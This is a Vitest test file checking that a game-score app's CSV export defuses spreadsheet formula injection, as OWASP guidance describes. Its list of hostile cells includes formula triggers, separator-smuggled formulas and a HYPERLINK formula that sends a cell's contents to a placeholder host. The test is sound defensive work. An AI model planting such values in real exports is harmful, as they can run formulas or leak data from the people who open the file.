import { describe, expect, it } from 'vitest'
import { exportCsv } from '../../../src/main/services/scores/export'
import { logGame } from '../../../src/main/services/scores/logging'
import { fixtureDb } from '../scores/fixtures'

/** Cells a spreadsheet could run as a formula, directly or once a different separator splits them. */
const HOSTILE = [
  '=1+1',
  ' =2+2',
  '\u00a0=3+3',
  '\u3000@SUM(A1)',
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x;\u00a0-1+1',
  '@SUM(A1:A9)',
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\tplain',
  '\rplain',
  '\nplain',
  '\uff1d1+1', // a full-width equals sign
  'say "hi";=1+1',
  'x",=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1)',
]

const TRIGGER = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/
const SPACE = /^[\s\u200b-\u200d\u2060]*/

/**
 * Each piece a spreadsheet could make of the line: split on any likely separator or line break,
 * ignoring quotes (a file opened with the wrong separator loses track of them); a piece's own
 * opening quotes and blanks are dropped, as lenient readers do.
 */
function pieces(line: string): string[] {
  return line.split(/[,;\t\r\n]/).map((p) => p.replace(/^"*/, ''))
}

/** RFC 4180: the cells of one CSV record, every cell quoted. */
function parseQuoted(line: string): string[] {
  const cells: string[] = []
  const re = /"((?:[^"]|"")*)"(?:,|$)/gy
  let m: RegExpExecArray | null
  while ((m = re.exec(line)) && m[0] !== '') cells.push((m[1] ?? '').replaceAll('""', '"'))
  return cells
}

describe('CSV export follows OWASP CSV-injection guidance', () => {
  const db = fixtureDb(['Ann', 'Bob'])
  const ids = HOSTILE.map((notes, i) => {
    const { id } = logGame(db, {
      game: 'now-you-see-me',
      playedOn: `2024-01-${String(1 + (i % 28)).padStart(2, '0')}`,
      seats: [
        { playerId: 'ann', score: 1 },
        { playerId: 'bob', score: 2 },
      ],
    })
    // Written as stored text: logging trims notes, but an import or an older version need not have.
    db.prepare('UPDATE games SET notes = ? WHERE id = ?').run(notes, id)
    return id
  })
  const csv = exportCsv(db)
  const records = csv.split('\r\n').filter((r) => r !== '')

  it('quotes every cell and doubles embedded quotes (one record per seat)', () => {
    expect(records[0]).toBe(
      '"date","game","source","game_id","player","kind","place","score","winner","notes"',
    )
    // Line breaks inside notes stay inside their quotes: count records with a quote-aware parse.
    const text = csv
    let inQuotes = false
    let rows = 0
    for (let i = 0; i < text.length; i++) {
      if (text[i] === '"') inQuotes = !inQuotes
      else if (!inQuotes && text[i] === '\r' && text[i + 1] === '\n') rows++
    }
    expect(rows).toBe(1 + ids.length * 2)
  })

  it('no cell, and no piece of a cell after a separator, starts a formula', () => {
    // Every hostile note is in the file; the whole file is cut as a reader with any separator would.
    expect(records.length).toBeGreaterThan(HOSTILE.length)
    const bad = pieces(csv).filter((piece) => TRIGGER.test(piece.replace(SPACE, '')))
    expect(bad).toEqual([])
  })

  it('keeps the text: only a leading apostrophe is added where a formula could start', () => {
    const notes = records.map((r) => parseQuoted(r).at(-1))
    expect(notes).toContain("'=1+1")
    expect(notes).toContain("' =2+2")
    expect(notes).toContain("x;'=1+1")
    expect(notes).toContain("'@SUM(A1:A9)")
    expect(notes).toContain('say "hi";\'=1+1')
  })
})
